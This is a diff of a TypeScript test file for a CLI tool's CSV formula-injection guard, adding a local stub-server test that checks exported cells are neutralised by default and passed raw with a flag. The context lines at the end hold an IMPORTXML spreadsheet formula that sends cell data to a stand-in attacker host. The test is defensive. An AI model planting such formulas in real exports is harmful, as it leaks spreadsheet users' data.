@@ -1,4 +1,7 @@
 import { readFileSync } from 'node:fs';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { runInProcess } from '../helpers/inProcessCli.js';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { neutraliseFormula } from '../../src/domain/csvFormula.js';
 import { tempDir } from '../helpers/cli.js';
@@ -45,6 +48,28 @@ describe('the formula guard', () => {
   });
 
   // the guard itself over a service CSV with live formulas: test/unit/commands/analyticsGuard.test.ts
+  it('analytics export of a service whose CSV holds live formulas: guarded by default, as sent with --csv-raw', async () => {
+    // a stand-in for a service that does not guard its cells (the sandbox does): the link, then the CSV
+    const served = 'scannedAt,city\r\n2026-01-01T00:00:00Z,=1+1\r\n';
+    const service = createServer((req, res) => {
+      const { port } = service.address() as AddressInfo;
+      if (req.url!.startsWith('/v1/forms/ABCDEFGH/analytics?') && req.url!.includes('export=1')) {
+        res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ status: 'success', data: { csvUrl: `http://127.0.0.1:${port}/scans.csv` } }));
+      } else if (req.url === '/scans.csv') res.writeHead(200, { 'content-type': 'text/csv' }).end(served);
+      else res.writeHead(404).end();
+    });
+    await new Promise<void>((r) => service.listen(0, '127.0.0.1', r));
+    try {
+      const env = { FORMCTL_BASE_URL: `http://127.0.0.1:${(service.address() as AddressInfo).port}/v1`, FORMCTL_API_KEY: sb.keys.owner, FORMCTL_CONFIG_DIR: `${tmp.path}/stub-config` };
+      const guarded = await runInProcess(['analytics', 'export', 'ABCDEFGH'], { env });
+      expect([guarded.exitCode, guarded.stdout.split('\r\n')[1]]).toEqual([0, "2026-01-01T00:00:00Z,'=1+1"]);
+      const raw = await runInProcess(['analytics', 'export', 'ABCDEFGH', '--csv-raw'], { env });
+      expect([raw.exitCode, raw.stdout]).toEqual([0, served]);
+    } finally {
+      service.close();
+    }
+  });
+
   it('analytics export of a sandbox CSV: cells arrive guarded, no second mark, --csv-raw as sent', async () => {
     await fetch(`${sb.origin}/s/${qrId}`, { headers: { 'x-sandbox-city': '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")' } });
     const out = `${tmp.path}/scans.csv`;
